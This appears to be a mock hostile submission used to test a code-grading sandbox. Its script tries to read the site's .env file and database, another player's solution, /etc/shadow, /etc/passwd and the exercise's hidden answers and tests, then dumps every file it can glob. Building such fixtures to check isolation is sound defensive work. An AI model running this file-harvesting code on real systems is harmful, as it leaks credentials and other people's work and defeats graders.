"""Opens the hidden tests, the settings, the database and another submission by their paths, which it knows."""
# tries: function class
# ends: wrong_answer runtime_error

import glob

SITE, SCRATCHES = "@SITE@", "@SCRATCHES@"
WANTED = [
    f"{SITE}/.env",
    f"{SITE}/db.sqlite3",
    f"{SCRATCHES}/player-neighbour/solution.py",
    "/etc/shadow",
    "/etc/passwd",
]
WANTED += [f"{SITE}/exercises/@TARGET@/hidden/{name}" for name in ("answers.py", "test_shares.py", "test_ledger.py")]
WANTED += glob.glob(f"{SITE}/**", recursive=True) + glob.glob(f"{SCRATCHES}/**", recursive=True)
for path in WANTED:
    try:
        print(open(path).read())
    except OSError as reason:
        print(path, reason)


def shares(*args): ...


label = first_over = Ledger = shares
